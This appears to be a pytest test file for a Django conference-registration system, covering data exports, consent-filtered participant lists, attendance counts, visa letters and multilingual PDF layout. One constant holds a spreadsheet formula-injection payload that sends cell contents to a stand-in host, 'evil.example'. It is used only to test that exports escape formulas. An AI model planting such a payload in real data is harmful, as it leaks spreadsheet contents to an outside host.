import csv
import io

import pytest
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from pypdf import PdfReader
from reportlab.lib.units import mm

from registration import personal_data, services
from registration.models import Entity, Registration
from tests.factories import EntityFactory, SessionFactory, UserFactory, register
from tests.pdfs import (
    LANGUAGES,
    assert_printed,
    drawn_texts,
    page_lines,
    pdf_in,
    read,
)

pytestmark = pytest.mark.django_db


@pytest.fixture
def session():
    return SessionFactory(format="hybrid", slug="ieg-2-2025")


def approved(session, entity, officer, **fields):
    return services.approve(register(session, entity, **fields), officer)


def pdf_text(response) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)


def test_csv_export_has_the_chosen_columns(officer_client, session):
    register(session, family_name="Haddad", identity_document_number="P123")

    response = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=family_name&column=entity"
    )

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Family name", "Entity"] and rows[1][0] == "Haddad"


def test_identity_numbers_are_left_out_unless_asked(officer_client, session):
    register(session, identity_document_number="P1234567")

    default = officer_client.get("/sessions/ieg-2-2025/console/export.csv").content.decode()
    asked = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=identity_document_number"
    ).content.decode()

    assert "P1234567" not in default and "P1234567" in asked


def test_excel_export_follows_the_filters(officer_client, session, officer):
    approved(session, EntityFactory(), officer, family_name="Approved")
    register(session, family_name="Pending")

    response = officer_client.get("/sessions/ieg-2-2025/console/export.xlsx?state=approved")

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Approved"]


def test_exports_are_for_officers_only(delegate_client, session):
    register(session)

    assert delegate_client.get("/sessions/ieg-2-2025/console/export.csv").status_code == 403


def test_participants_list_is_in_un_order_and_names_only_those_who_consented(
    officer_client, session, officer
):
    approved(
        session,
        EntityFactory(kind="ngo", name="Penal Reform International"),
        officer,
        family_name="Ngo-Person",
        consents_to_list=True,
    )
    approved(
        session, EntityFactory(name="Zimbabwe"), officer, family_name="Moyo", consents_to_list=True
    )
    approved(
        session, EntityFactory(name="Austria"), officer, family_name="Gruber", consents_to_list=True
    )
    approved(
        session,
        EntityFactory(kind="observer_state", name="Holy See"),
        officer,
        family_name="Rossi",
        consents_to_list=True,
    )
    approved(
        session,
        EntityFactory(name="Brazil"),
        officer,
        family_name="Private",
        consents_to_list=False,
    )
    register(session, EntityFactory(name="Chile"), family_name="Pending", consents_to_list=True)

    text = pdf_text(officer_client.get("/sessions/ieg-2-2025/console/participants.pdf"))

    order = [text.index(name) for name in ("GRUBER", "MOYO", "ROSSI", "NGO-PERSON")]
    assert order == sorted(order)
    assert "PRIVATE" not in text and "PENDING" not in text


def test_participants_list_prints_any_latin_diacritics(officer_client, session, officer):
    approved(
        session,
        EntityFactory(name="Poland"),
        officer,
        given_name="Łucja",
        family_name="Wąsowska",
        consents_to_list=True,
    )

    text = pdf_text(officer_client.get("/sessions/ieg-2-2025/console/participants.pdf"))

    assert "Łucja WĄSOWSKA" in text


def test_attendance_summary_counts_approved_registrations(officer_client, session, officer):
    austria = EntityFactory(name="Austria", regional_group="WESTERN_EUROPE_OTHERS")
    approved(session, austria, officer, gender="female")
    approved(session, austria, officer, gender="male", participation_mode="online")
    approved(session, EntityFactory(kind="ngo"), officer)
    register(session, EntityFactory())

    summary = officer_client.get("/sessions/ieg-2-2025/console/attendance/").context["summary"]

    assert summary["member_states"] == 1 and summary["participants"] == 3
    assert summary["by_mode"] == {"in_person": 2, "online": 1}
    assert summary["by_gender"]["female"] == 1


def test_attendance_summary_query_count_is_fixed(
    officer_client, session, officer, django_assert_num_queries
):
    approved(session, EntityFactory(), officer)
    # 11, and 10 for online's part (badges.hooks): joined online, and attended either way
    with django_assert_num_queries(21) as few:
        officer_client.get("/sessions/ieg-2-2025/console/attendance/")
    for _ in range(10):
        approved(session, EntityFactory(), officer)

    with django_assert_num_queries(len(few.captured_queries)):
        officer_client.get("/sessions/ieg-2-2025/console/attendance/")


class TestVisaLetter:
    @pytest.fixture
    def asked(self, session, officer, delegate):
        return approved(
            session,
            EntityFactory(),
            officer,
            email=delegate.email,
            needs_visa_letter=True,
            identity_document_number="P7654321",
        )

    def test_officer_signs_off_and_the_person_downloads_it(self, client, officer, delegate, asked):
        client.force_login(officer)
        client.post(f"/registrations/{asked.pk}/visa-letter/")
        client.force_login(delegate)

        text = pdf_text(client.get(f"/registrations/{asked.pk}/visa-letter/"))

        assert asked.family_name.upper() in text and "P7654321" in text

    def test_not_before_sign_off(self, delegate_client, asked):
        assert delegate_client.get(f"/registrations/{asked.pk}/visa-letter/").status_code == 404

    def test_a_delegate_cannot_sign_off(self, delegate_client, asked):
        delegate_client.post(f"/registrations/{asked.pk}/visa-letter/")

        asked.refresh_from_db()
        assert asked.visa_letter_signed_at is None

    def test_another_user_cannot_read_it(self, client, officer, asked):
        personal_data.sign_visa_letter(asked, officer)
        client.force_login(UserFactory())

        assert client.get(f"/registrations/{asked.pk}/visa-letter/").status_code == 403

    def test_only_for_approved_in_person_who_asked(self, session, officer):
        pending = register(session, needs_visa_letter=True)

        with pytest.raises(services.RegistrationError):
            personal_data.sign_visa_letter(pending, officer)
        assert Registration.objects.get(pk=pending.pk).visa_letter_signed_at is None


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_export_writes_a_formula_in_a_name_as_text(officer_client, session):
    register(session, given_name=FORMULA, function_title="@SUM(A1:A9)")

    response = officer_client.get(
        "/sessions/ieg-2-2025/console/export.csv?column=given_name&column=function_title"
    )

    row = list(csv.reader(io.StringIO(response.content.decode())))[1]
    assert row == ["'" + FORMULA, "'@SUM(A1:A9)"]


def test_excel_export_writes_a_formula_in_a_name_as_text(officer_client, session):
    register(session, given_name=FORMULA)

    response = officer_client.get("/sessions/ieg-2-2025/console/export.xlsx?column=given_name")

    cell = load_workbook(io.BytesIO(response.content)).active["A2"]
    assert (cell.data_type, cell.value) == ("s", FORMULA)


# The PDFs in every interface language, read back


@pytest.mark.parametrize("language", LANGUAGES)
def test_participants_list_prints_in_every_language(officer_client, session, officer, language):
    approved(
        session,
        EntityFactory(name="Egypt"),
        officer,
        given_name="Amina",
        family_name="Haddad",
        function_title="Counsellor",
        consents_to_list=True,
    )

    pdf = pdf_in(officer_client, "/sessions/ieg-2-2025/console/participants.pdf", language)

    with translation.override(language):
        title, kind = gettext("List of participants"), str(Entity.Kind.MEMBER_STATE.label)
    assert_printed(pdf, title, kind, "Egypt", "Amina HADDAD", "Counsellor")


def test_participants_list_in_arabic_reads_right_to_left(officer_client, session, officer):
    approved(session, EntityFactory(name="Egypt"), officer, consents_to_list=True)

    pdf = pdf_in(officer_client, "/sessions/ieg-2-2025/console/participants.pdf", "ar")

    reader = read(pdf)
    page = reader.pages[0]
    rows = page_lines(drawn_texts(reader, page))
    ends = {round(row[-1].right, 1) for row in rows[:-1]}  # the person's line is indented
    assert len(ends) == 1 and ends.pop() > float(page.mediabox.width) - 30 * mm
    assert rows[-1][-1].right < rows[0][-1].right  # indented on the right
    # the title "<session>: List of participants" starts, at the right, with the session
    title = "".join(item.text for item in rows[0])
    assert title.endswith(session.title) and "ﻗ" in title
    assert reader.metadata.title == "قائمة المشاركين"


def test_participants_list_in_english_reads_left_to_right(officer_client, session, officer):
    approved(session, EntityFactory(name="Egypt"), officer, consents_to_list=True)

    pdf = pdf_in(officer_client, "/sessions/ieg-2-2025/console/participants.pdf", "en")

    reader = read(pdf)
    rows = page_lines(drawn_texts(reader, reader.pages[0]))
    starts = {round(row[0].x, 1) for row in rows[:-1]}
    assert len(starts) == 1 and starts.pop() < 30 * mm
    assert rows[-1][0].x > rows[0][0].x  # indented on the left
    assert "".join(item.text for item in rows[0]).startswith(session.title)


@pytest.mark.parametrize("language", LANGUAGES)
def test_visa_letter_prints_in_every_language(client, session, officer, delegate, language):
    asked = approved(
        session,
        EntityFactory(name="Egypt"),
        officer,
        email=delegate.email,
        needs_visa_letter=True,
        identity_document_number="P7654321",
        family_name="Haddad",
    )
    personal_data.sign_visa_letter(asked, officer)
    client.force_login(delegate)

    pdf = pdf_in(client, f"/registrations/{asked.pk}/visa-letter/", language)

    with translation.override(language):
        expected = (
            gettext("Visa support letter"),
            gettext("To the Embassy or Consulate of Austria"),
        )
    assert_printed(pdf, *expected, "HADDAD", "P7654321", "Egypt")


def test_visa_letter_in_arabic_is_right_aligned(client, session, officer, delegate):
    asked = approved(
        session, EntityFactory(), officer, email=delegate.email, needs_visa_letter=True
    )
    personal_data.sign_visa_letter(asked, officer)
    client.force_login(delegate)

    pdf = pdf_in(client, f"/registrations/{asked.pk}/visa-letter/", "ar")

    reader = read(pdf)
    page = reader.pages[0]
    rows = page_lines(drawn_texts(reader, page))
    ends = {round(row[-1].right, 1) for row in rows}
    assert len(rows) > 6 and len(ends) == 1 and ends.pop() > float(page.mediabox.width) - 30 * mm
